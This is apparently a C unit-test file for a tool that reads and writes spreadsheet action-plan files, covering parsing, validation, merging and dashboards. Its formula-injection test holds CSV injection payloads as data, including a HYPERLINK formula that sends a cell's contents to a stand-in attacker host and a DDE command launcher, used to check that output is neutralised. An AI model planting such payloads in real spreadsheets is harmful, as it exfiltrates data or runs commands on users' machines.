/* Unit tests: actions files (NAME-actions.csv) — round trips, what
 * spreadsheets write, refusals with file:line:field, the migration of an
 * assessment's own action columns, formula injection, filters. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actionlist.h"
#include "assessment.h"
#include "atomicfile.h"
#include "csvio.h"
#include "dashboard.h"
#include "progress.h"
#include "standard_levels.h"

static struct framework *fw;
static char dir[256];

static int setup(void **state)
{
	(void)state;
	struct tri_error err;
	fw = framework_load_embedded(&err);
	snprintf(dir, sizeof dir, "%s/tri-actions-XXXXXX",
		 getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	return fw && mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	framework_destroy(fw);
	char cmd[300];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir); /* test cleanup only */
	return system(cmd) == 0 ? 0 : -1;
}

static struct actionlist *parse(const char *text, struct tri_error *err)
{
	return actionlist_parse(fw, "a-actions.csv", text, strlen(text), err);
}

/* The list as its file's text (caller frees). */
static char *written(const struct actionlist *list)
{
	char *data = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&data, &size);
	struct tri_error err = {{0}};
	assert_non_null(out);
	if (actionlist_write(list, out, &err) != 0)
		fail_msg("%s", err.message);
	fclose(out);
	return data;
}

static int write_list(FILE *out, void *context, struct tri_error *err)
{
	return actionlist_write(context, out, err);
}

static size_t criterion(const char *id)
{
	long c = framework_find_criterion(fw, id);
	assert_true(c >= 0);
	return (size_t)c;
}

static void test_round_trip(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct actionlist *list = actionlist_create(fw);
	assert_non_null(list);
	struct actionlist_fields f = { .outcome = "", .activity = "Publish the EQIA guide\nand train",
				       .lead = "Head of HR; Zoë Ade", .due = "2027-03-31",
				       .due_note = "", .status = ACTIONLIST_ON_TRACK };
	assert_int_equal(actionlist_add(list, criterion("2a.3"), &f, &err), 0);
	f = (struct actionlist_fields){ .outcome = "Staff networks consulted", .activity = "Survey",
					.lead = "", .due = "", .due_note = "Sept 2027 review",
					.status = ACTIONLIST_NOT_STARTED };
	assert_int_equal(actionlist_add(list, criterion("1.1"), &f, &err), 0); /* first in order */
	f.activity = "Second for 1.1";
	f.status = ACTIONLIST_AT_RISK;
	assert_int_equal(actionlist_add(list, criterion("1.1"), &f, &err), 1);
	assert_int_equal(list->items[0].id, 2);
	assert_int_equal(list->items[1].id, 3);
	assert_int_equal(list->items[2].id, 1);
	assert_int_equal(actionlist_add_update(list, 1, "2026-11-20", " A. Smith ",
					       "Draft agreed at board", &err), 0);
	assert_int_equal(actionlist_add_update(list, 1, "2026-12-01", "", "Slipped: budget",
					       &err), 0);
	size_t first, n = actionlist_of_criterion(list, criterion("1.1"), &first);
	assert_int_equal(n, 2);
	assert_int_equal(first, 0);

	char *text = written(list);
	assert_non_null(strstr(text, "criterion_id,action_id,category,outcome,activity,"
			       "lead_officer,due,due_note,status,progress\r\n"));
	assert_non_null(strstr(text, ",at_risk,\"2026-11-20 | A. Smith | Draft agreed at board\n"
			       "2026-12-01 |  | Slipped: budget\"\r\n"));
	struct actionlist *back = parse(text, &err);
	if (!back)
		fail_msg("%s", err.message);
	assert_int_equal(back->count, 3);
	for (size_t i = 0; i < 3; i++)
		assert_true(actionlist_same_item(list, &list->items[i], back, &back->items[i]));
	assert_string_equal(back->items[1].updates[0].who, "A. Smith");
	assert_int_equal(back->read_notes.count, 0);
	char *again = written(back);
	assert_string_equal(again, text);

	/* saved atomically, read back through the file layer */
	char path[512];
	snprintf(path, sizeof path, "%s/round-actions.csv", dir);
	assert_int_equal(atomicfile_replace(path, false, write_list, list, &err), 0);
	bool exists = false;
	struct actionlist *read = actionlist_read(fw, path, &exists, NULL, &err);
	if (!read)
		fail_msg("%s", err.message);
	assert_true(exists);
	assert_int_equal(read->count, 3);
	actionlist_destroy(read);
	snprintf(path, sizeof path, "%s/none-actions.csv", dir);
	read = actionlist_read(fw, path, &exists, NULL, &err);
	assert_non_null(read);
	assert_false(exists);
	assert_int_equal(read->count, 0);
	actionlist_destroy(read);

	/* a copy says the same; removing and editing */
	struct actionlist *copy = actionlist_copy(list);
	assert_non_null(copy);
	actionlist_remove(copy, 0);
	assert_int_equal(copy->count, 2);
	assert_int_equal(actionlist_find(copy, 2), -1);
	assert_int_equal(actionlist_find(copy, 1), 1);
	f.due = "31 March";
	assert_int_equal(actionlist_edit(copy, 0, &f, &err), -1);
	assert_non_null(strstr(err.message, "expected a date as YYYY-MM-DD"));
	assert_string_equal(copy->items[0].activity, "Second for 1.1");
	actionlist_destroy(copy);
	free(text);
	free(again);
	actionlist_destroy(back);
	actionlist_destroy(list);
}

static void test_paths(void **state)
{
	(void)state;
	static const struct { const char *in, *out; } cases[] = {
		{ "brent.csv", "brent-actions.csv" },
		{ "/srv/team/Brent 2026.CSV", "/srv/team/Brent 2026-actions.csv" },
		{ "dir.csv/brent", "dir.csv/brent-actions.csv" },
		{ "dir/.csv", "dir/.csv-actions.csv" },
	};
	char out[256];
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		assert_int_equal(actionlist_path(cases[i].in, out, sizeof out), 0);
		assert_string_equal(out, cases[i].out);
	}
	assert_int_equal(actionlist_path("brent.csv", out, 10), -1);
}

/* What spreadsheets write: statuses in words, UK dates, other
 * separators, missing numbers, ids made numbers; all read and said. */
static void test_spreadsheet_forms(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct actionlist *list = parse("\xEF\xBB\xBF" "Activity;criterion_id;Status;due;Owner\r\n"
					"Train panels;1.1;On track;31/03/2027;Ada\r\n"
					"Audit;1.2;OFF-TRACK;;\r\n"
					"Review;1.1; done ;2027-01-05;Ngozi\r\n", &err);
	if (!list)
		fail_msg("%s", err.message);
	assert_int_equal(list->count, 3);
	assert_true(list->bom);
	assert_int_equal(list->extra_column_count, 1);
	assert_string_equal(list->extra_columns[0], "Owner");
	assert_string_equal(list->items[0].due, "2027-03-31");
	assert_int_equal(list->items[0].status, ACTIONLIST_ON_TRACK);
	assert_int_equal(list->items[1].status, ACTIONLIST_DONE);
	assert_int_equal(list->items[2].status, ACTIONLIST_OFF_TRACK);
	assert_string_equal(list->items[2].activity, "Audit");
	for (size_t i = 0; i < 3; i++)
		assert_true(list->items[i].id >= 1 && list->items[i].id <= 3);
	/* said: the separator, the UK date, three numbered actions */
	char all[4096] = "";
	for (size_t k = 0; k < list->read_notes.count; k++) {
		strncat(all, list->read_notes.items[k].text, sizeof all - strlen(all) - 2);
		strcat(all, "\n");
	}
	assert_non_null(strstr(all, "semicolon"));
	assert_non_null(strstr(all, "\"31/03/2027\" read as 2027-03-31"));
	assert_non_null(strstr(all, "without an action_id, numbered"));
	/* statuses as people write them */
	static const struct { const char *text; bool ok; enum actionlist_status status; } statuses[] = {
		{ "", true, ACTIONLIST_NOT_STARTED }, { "Not started", true, ACTIONLIST_NOT_STARTED },
		{ "on_track", true, ACTIONLIST_ON_TRACK }, { "At risk", true, ACTIONLIST_AT_RISK },
		{ "off - track", true, ACTIONLIST_OFF_TRACK }, { "DONE", true, ACTIONLIST_DONE },
		{ "green", false, 0 }, { "on track!", false, 0 },
		{ "not started not started not started", false, 0 },
	};
	for (size_t i = 0; i < sizeof statuses / sizeof statuses[0]; i++) {
		enum actionlist_status s = ACTIONLIST_STATUS_COUNT;
		assert_int_equal(actionlist_status_parse(statuses[i].text, &s), statuses[i].ok);
		if (statuses[i].ok)
			assert_int_equal(s, statuses[i].status);
	}
	actionlist_destroy(list);
}

static void test_bad_input(void **state)
{
	(void)state;
	static const struct { const char *text, *message; } cases[] = {
		{ "criterion_id,activity\n9.9,x\n",
		  "a-actions.csv:2: field \"criterion_id\" is \"9.9\"; expected the criterion" },
		{ "criterion_id,activity,due\n1.1,x,March 2027\n",
		  "a-actions.csv:2: field \"due\" is \"March 2027\"; expected a date as YYYY-MM-DD" },
		{ "criterion_id,activity,due\n1.1,x,2027-02-30\n", "field \"due\" is \"2027-02-30\"" },
		{ "criterion_id,activity,status\n1.1,x,\n1.2,y,green\n",
		  "a-actions.csv:3: field \"status\" is \"green\"; expected not_started, on_track" },
		{ "criterion_id,activity,progress\n1.1,x,\"2026-01-01 | A | ok\nlater: more\"\n",
		  "a-actions.csv:2: field \"progress\", update 2, is \"later: more\"; expected" },
		{ "criterion_id,activity,progress\n1.1,x,2026-13-01 | A | ok\n",
		  "field \"progress\", update 1" },
		{ "criterion_id,action_id,activity\n1.1,4,x\n1.2,4,y\n",
		  "a-actions.csv:3: field \"action_id\" is 4, as on line 2; expected each" },
		{ "criterion_id,action_id,activity\n1.1,0,x\n",
		  "field \"action_id\" is \"0\"; expected a whole number from 1" },
		{ "criterion_id,action_id,activity\n1.1,-2,x\n", "field \"action_id\" is \"-2\"" },
		{ "criterion_id,action_id,activity\n1.1,99999999999999999999,x\n",
		  "field \"action_id\" is \"99999999999999999999\"" },
		{ "criterion_id,lead_officer\n1.1,x\n", "no column \"activity\"; expected an actions file" },
		{ "level,activity\n1,x\n", "no column \"criterion_id\"" },
		{ "criterion_id,activity,=Owner,'=Owner\n1.1,x,a,b\n",
		  "columns \"=Owner\" and \"'=Owner\" are one column" },
		/* mixed encodings: refused as an assessment's are */
		{ "criterion_id,activity\n1.1,caf\xc3\xa9\n1.2,\"x\xff\"\n", "a-actions.csv" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct tri_error err = {{0}};
		struct actionlist *list = parse(cases[i].text, &err);
		if (list)
			fail_msg("case %zu was accepted", i);
		if (!strstr(err.message, cases[i].message))
			fail_msg("case %zu: \"%s\" does not say \"%s\"", i, err.message,
				 cases[i].message);
	}
	/* a link where the actions file goes is refused, never followed */
	char target[512], link[512];
	snprintf(target, sizeof target, "%s/elsewhere.csv", dir);
	snprintf(link, sizeof link, "%s/linked-actions.csv", dir);
	FILE *f = fopen(target, "w");
	assert_non_null(f);
	fputs("criterion_id,activity\n1.1,x\n", f);
	fclose(f);
	assert_int_equal(symlink(target, link), 0);
	struct tri_error err = {{0}};
	bool exists;
	assert_null(actionlist_read(fw, link, &exists, NULL, &err));
	assert_non_null(strstr(err.message, "is a symbolic link"));
	/* what a person gives is checked too */
	struct actionlist *list = actionlist_create(fw);
	struct actionlist_fields bad = { .outcome = "", .activity = "x", .lead = "",
					 .due = "next week", .due_note = "",
					 .status = ACTIONLIST_ON_TRACK };
	assert_int_equal(actionlist_add(list, 0, &bad, &err), -1);
	bad.due = "";
	bad.activity = "\xc3";
	assert_int_equal(actionlist_add(list, 0, &bad, &err), -1);
	assert_non_null(strstr(err.message, "UTF-8"));
	bad.activity = "x";
	assert_int_equal(actionlist_add(list, fw->criterion_count, &bad, &err), -1);
	assert_int_equal(list->count, 0);
	assert_int_equal(actionlist_add(list, 0, &bad, &err), 0);
	static const struct { const char *date, *who, *text; } updates[] = {
		{ "2026-1-01", "A", "x" }, { "2026-01-01", "A|B", "x" },
		{ "2026-01-01", "A\nB", "x" }, { "2026-01-01", "A", "two\nlines" },
		{ "2026-01-01", "A", "  " },
	};
	for (size_t i = 0; i < sizeof updates / sizeof updates[0]; i++)
		assert_int_equal(actionlist_add_update(list, 0, updates[i].date, updates[i].who,
						       updates[i].text, &err), -1);
	assert_int_equal(list->items[0].update_count, 0);
	actionlist_destroy(list);
}

/* Formulas from input go out inert and come back as typed. */
static void test_injection(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3",
		"@SUM(1)", "'=already guarded", "\t=tab", "plain",
	};
	enum { N = sizeof texts / sizeof texts[0] };
	struct tri_error err = {{0}};
	struct actionlist *list = parse("criterion_id,activity,=Owner\n", &err);
	if (!list)
		fail_msg("%s", err.message);
	for (size_t i = 0; i < N; i++) {
		struct actionlist_fields f = { .outcome = texts[i], .activity = texts[i],
					       .lead = texts[i], .due = "", .due_note = texts[i],
					       .status = ACTIONLIST_NOT_STARTED };
		assert_true(actionlist_add(list, i, &f, &err) >= 0);
		assert_int_equal(actionlist_add_update(list, i, "2026-01-02", "=Ada",
						       texts[i], &err), 0);
		assert_int_equal(assessment_set_text(&list->items[i].extra[0], texts[i], &err), 0);
	}
	char *text = written(list);
	/* no field starts with a formula character */
	assert_null(strstr(text, ",="));
	assert_null(strstr(text, ",+"));
	assert_null(strstr(text, ",@"));
	assert_null(strstr(text, ",\"="));
	assert_null(strstr(text, ",-2"));
	assert_non_null(strstr(text, ",'=Owner\r\n"));
	struct actionlist *back = parse(text, &err);
	if (!back)
		fail_msg("%s", err.message);
	assert_string_equal(back->extra_columns[0], "=Owner");
	for (size_t i = 0; i < N; i++) {
		assert_string_equal(back->items[i].activity, list->items[i].activity);
		assert_string_equal(back->items[i].outcome, list->items[i].outcome);
		assert_string_equal(back->items[i].lead, list->items[i].lead);
		assert_string_equal(back->items[i].due_note, list->items[i].due_note);
		assert_string_equal(back->items[i].extra[0], list->items[i].extra[0]);
		assert_string_equal(back->items[i].updates[0].text,
				    list->items[i].updates[0].text);
	}
	char *again = written(back);
	assert_string_equal(again, text);
	free(text);
	free(again);
	actionlist_destroy(back);
	actionlist_destroy(list);
}

/* Today's action, lead_officer and timescale columns become actions:
 * a date is the due date, words the due note, never a guessed date. */
static void test_migration(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	const char *text = "criterion_id,level,target_level,action,lead_officer,timescale\n"
			   "1.1,developing,leading,Train every panel,Head of HR,2027-03-31\n"
			   "1.2,none,,,,Sept 2019 review\n"
			   "1.3,established,,,Ada,\n";
	struct assessment *a = assessment_parse(fw, "old.csv", text, strlen(text), &err);
	if (!a)
		fail_msg("%s", err.message);
	assert_true(actionlist_has_legacy(a));
	struct actionlist *list = actionlist_create(fw);
	size_t moved = 0;
	assert_int_equal(actionlist_migrate(list, a, &moved, &err), 0);
	assert_int_equal(moved, 3);
	assert_int_equal(list->count, 3);
	assert_string_equal(list->items[0].activity, "Train every panel");
	assert_string_equal(list->items[0].lead, "Head of HR");
	assert_string_equal(list->items[0].due, "2027-03-31");
	assert_string_equal(list->items[0].due_note, "");
	assert_string_equal(list->items[1].due, "");
	assert_string_equal(list->items[1].due_note, "Sept 2019 review");
	assert_string_equal(list->items[2].lead, "Ada");
	for (size_t i = 0; i < 3; i++)
		assert_int_equal(list->items[i].status, ACTIONLIST_NOT_STARTED);
	assert_false(actionlist_has_legacy(a));
	/* the outcome by default is the target cell's statement */
	assert_string_equal(actionlist_outcome(&list->items[0], a),
			    fw->criteria[0].cell[LEVEL_LEADING]);

	/* the assessment now writes without those columns; its target stays */
	char *data = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&data, &size);
	assert_int_equal(assessment_write(a, out, &err), 0);
	fclose(out);
	assert_null(strstr(data, "action"));
	assert_null(strstr(data, "timescale"));
	assert_non_null(strstr(data, "target_level"));
	struct assessment *b = assessment_parse(fw, "new.csv", data, size, &err);
	if (!b)
		fail_msg("%s", err.message);
	assert_int_equal(b->answers[0].target, LEVEL_LEADING);
	free(data);

	/* interrupted between the two files: the actions file has them, the
	 * assessment still too; finishing does not double them */
	struct assessment *again = assessment_parse(fw, "old.csv", text, strlen(text), &err);
	assert_int_equal(actionlist_migrate(list, again, &moved, &err), 0);
	assert_int_equal(list->count, 3);
	assert_false(actionlist_has_legacy(again));

	/* the commands' view: the file on disk, with old columns merged */
	char path[512];
	snprintf(path, sizeof path, "%s/old.csv", dir);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	struct assessment *c = assessment_load(fw, path, &err);
	assert_non_null(c);
	struct actionlist *loaded = actionlist_load_for(c, path, &err);
	if (!loaded)
		fail_msg("%s", err.message);
	assert_int_equal(loaded->count, 3);
	assert_int_equal(loaded->read_notes.count, 1);
	assert_non_null(strstr(loaded->read_notes.items[0].text, "old-actions.csv"));
	actionlist_destroy(loaded);
	assessment_destroy(c);
	assessment_destroy(again);
	assessment_destroy(b);
	assessment_destroy(a);
	actionlist_destroy(list);
}

/* The merge of two writers' changes, by action_id. */
static void test_merge(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	const char *base_text = "criterion_id,action_id,activity,status\n1.1,1,a,\n1.2,2,b,\n";
	struct actionlist *base = parse(base_text, &err);
	struct actionlist *ours = parse("criterion_id,action_id,activity,status\n1.1,1,a,done\n"
					"1.2,2,b,\n1.3,3,ours new,\n", &err);
	struct actionlist *theirs = parse("criterion_id,action_id,activity,status\n1.1,1,a,\n"
					  "1.2,2,b changed,\n1.4,3,theirs new,\n", &err);
	assert_non_null(base);
	assert_non_null(ours);
	assert_non_null(theirs);
	bool conflict;
	struct actionlist *m = actionlist_merge(base, ours, theirs, &conflict, &err);
	assert_non_null(m);
	assert_false(conflict);
	char *text = written(m);
	assert_non_null(strstr(text, "1.1,1,Strategic Leadership and Management,,a,,,,done,"));
	assert_non_null(strstr(text, ",b changed,"));
	assert_non_null(strstr(text, "1.3,4,Strategic Leadership and Management,,ours new,"));
	assert_non_null(strstr(text, "1.4,3,Strategic Leadership and Management,,theirs new,"));
	free(text);
	actionlist_destroy(m);
	/* both changed action 2: theirs kept, the conflict said */
	actionlist_set_status(ours, 1, ACTIONLIST_AT_RISK);
	m = actionlist_merge(base, ours, theirs, &conflict, &err);
	assert_non_null(m);
	assert_true(conflict);
	actionlist_destroy(m);
	/* other columns in theirs: a conflict too */
	struct actionlist *wider = parse("criterion_id,action_id,activity,Owner\n1.1,1,a,x\n", &err);
	m = actionlist_merge(base, ours, wider, &conflict, &err);
	assert_true(conflict);
	actionlist_destroy(m);
	actionlist_destroy(wider);
	actionlist_destroy(base);
	actionlist_destroy(ours);
	actionlist_destroy(theirs);
}

/* Filters and the order of the actions screen and `actions`. */
static void test_select(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct actionlist *list = parse("criterion_id,action_id,activity,lead_officer,due,status\n"
					"1.1,1,a,Head of HR,2027-03-31,on_track\n"
					"1.2,2,b,Zoë Ade,2026-01-15,at_risk\n"
					"2a.1,3,c,zoe ade,,not_started\n"
					"3.1,4,d,Ngozi,2026-02-01,done\n"
					"3.2,5,e,Ngozi,2026-01-15,off_track\n", &err);
	if (!list)
		fail_msg("%s", err.message);
	size_t out[8];
	static const struct {
		long category; unsigned statuses; const char *lead; bool overdue;
		const char *expect; /* activities in order */
	} cases[] = {
		{ -1, 0, NULL, false, "bedac" },          /* by due, dateless last */
		{ -1, 0, NULL, true, "be" },              /* open and past 2026-06-01 */
		{ -1, 0, "ZOE", false, "bc" },            /* accents and case aside */
		{ 0, 0, NULL, false, "ba" },
		{ -1, ACTIONLIST_OPEN, NULL, false, "beac" },
		{ -1, ACTIONLIST_STATUS_BIT(ACTIONLIST_DONE), NULL, false, "d" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct actionlist_filter f = { cases[i].category, cases[i].statuses, cases[i].lead,
					       cases[i].overdue, "2026-06-01" };
		size_t n = actionlist_select(list, &f, out);
		char got[8] = "";
		for (size_t k = 0; k < n; k++)
			got[k] = list->items[out[k]].activity[0];
		got[n] = '\0';
		assert_string_equal(got, cases[i].expect);
	}
	/* today is injectable for tests; a malformed value is ignored */
	char today[11];
	setenv("TRI_ASSESS_TODAY", "2031-07-04", 1);
	actionlist_today(today);
	assert_string_equal(today, "2031-07-04");
	setenv("TRI_ASSESS_TODAY", "2031-02-30", 1);
	actionlist_today(today);
	assert_string_not_equal(today, "2031-02-30");
	unsetenv("TRI_ASSESS_TODAY");
	char label[32];
	assert_string_equal(actionlist_label(list, &list->items[2], label, sizeof label), "2a.1 #3");
	actionlist_destroy(list);
}

/* The dashboard: ratings, overdue named earliest first, the three latest
 * updates newest first, the target the plan reaches. */
static void test_dashboard(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	const char *text = "criterion_id,level,target_level\n1.1,established,leading\n"
			   "1.2,established,\n1.3,established,\n1.4,established,\n"
			   "1.5,established,\n1.6,leading,\n1.7,none,\n1.8,leading,\n";
	struct assessment *a = assessment_parse(fw, "a.csv", text, strlen(text), &err);
	assert_non_null(a);
	struct actionlist *list = parse("criterion_id,action_id,activity,due,status,progress\n"
					"1.1,1,a,2026-05-01,on_track,2026-01-01 | x | one\n"
					"1.2,2,b,2026-03-01,on_track,\"2026-04-01 | x | two\n"
					"2026-02-01 | x | older\"\n"
					"1.3,3,c,,at_risk,2026-03-01 | x | three\n"
					"1.4,4,d,2026-04-01,not_started,2026-05-01 | x | four\n"
					"1.7,5,e,,on_track,\n"
					"3.1,6,f,,done,\n", &err);
	if (!list)
		fail_msg("%s", err.message);
	struct dashboard d;
	assert_int_equal(dashboard_init(&d, a, list, "2026-04-15"), 0);
	const struct dashboard_row *r = &d.rows[0];
	assert_int_equal(r->now->level, LEVEL_ESTABLISHED); /* 16 */
	/* 1.1, 1.2 (+1 each) and 1.7 (+3) reach their targets: 21, Leading */
	assert_int_equal(r->target, LEVEL_LEADING);
	assert_int_equal(r->action_count, 5);
	assert_int_equal(r->by_status[ACTIONLIST_ON_TRACK], 3);
	assert_int_equal(r->overdue_count, 2);
	assert_int_equal(list->items[r->overdue[0]].id, 2);
	assert_int_equal(list->items[r->overdue[1]].id, 4);
	assert_int_equal(r->delivery, DASHBOARD_AMBER);
	assert_int_equal(r->schedule, DASHBOARD_RED);
	assert_int_equal(r->overall, DASHBOARD_RED);
	assert_int_equal(r->latest_count, DASHBOARD_LATEST);
	assert_int_equal(list->items[r->latest[0]].id, 4); /* 05-01 */
	assert_int_equal(list->items[r->latest[1]].id, 2); /* 04-01 */
	assert_int_equal(list->items[r->latest[2]].id, 3); /* 03-01; 1's 01-01 left out */
	assert_int_equal(d.rows[2].overall, DASHBOARD_NONE); /* only done */
	assert_int_equal(d.rows[2].by_status[ACTIONLIST_DONE], 1);
	assert_int_equal(d.rows[3].target, LEVEL_UNANSWERED);
	assert_string_equal(dashboard_rag_word(DASHBOARD_AMBER), "Amber");
	assert_string_equal(dashboard_rag_name(DASHBOARD_NONE), "");
	dashboard_finish(&d);
	actionlist_destroy(list);
	assessment_destroy(a);
}

/* Progress: date order whatever the order given, one organisation. */
static void test_progress(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	static const char *const texts[] = {
		"criterion_id,level,organisation,date\n1.1,leading,Camden,2027-01-01\n",
		"criterion_id,level,organisation,date\n1.1,none,CAMDEN ,2025-01-01\n",
		"criterion_id,level,organisation,date\n1.1,developing,camden,2026-01-01\n",
		"criterion_id,level,organisation,date\n1.1,leading,Brent,2026-01-01\n",
		"criterion_id,level,organisation,date\n1.1,leading,Camden,\n",
	};
	struct assessment *as[5];
	const char *labels[5] = { "c.csv", "a.csv", "b.csv", "brent.csv", "undated.csv" };
	for (size_t i = 0; i < 5; i++)
		assert_non_null(as[i] = assessment_parse(fw, labels[i], texts[i], strlen(texts[i]),
							&err));
	struct progress p;
	assert_int_equal(progress_init(&p, (const struct assessment *const *)as, labels, 3, &err), 0);
	assert_string_equal(p.points[0].label, "a.csv");
	assert_string_equal(p.points[2].label, "c.csv");
	assert_int_equal(p.moved_count, 1);
	assert_true(p.moved[0]);
	assert_int_equal(progress_criterion_change(&p, 1, 0), 1);
	assert_int_equal(progress_criterion_change(&p, 2, 0), 2);
	assert_int_equal(p.points[2].scores.categories[0].score, 3);
	progress_finish(&p);
	assert_int_equal(progress_init(&p, (const struct assessment *const *)as, labels, 4, &err),
			 -1);
	assert_non_null(strstr(err.message, "brent.csv is of \"Brent\", c.csv of \"Camden\""));
	const struct assessment *undated[] = { as[0], as[4] };
	const char *undated_labels[] = { labels[0], labels[4] };
	assert_int_equal(progress_init(&p, undated, undated_labels, 2, &err), -1);
	assert_non_null(strstr(err.message, "undated.csv: no date"));
	for (size_t i = 0; i < 5; i++)
		assessment_destroy(as[i]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_paths),
		cmocka_unit_test(test_spreadsheet_forms),
		cmocka_unit_test(test_bad_input),
		cmocka_unit_test(test_injection),
		cmocka_unit_test(test_migration),
		cmocka_unit_test(test_select),
		cmocka_unit_test(test_merge),
		cmocka_unit_test(test_dashboard),
		cmocka_unit_test(test_progress),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
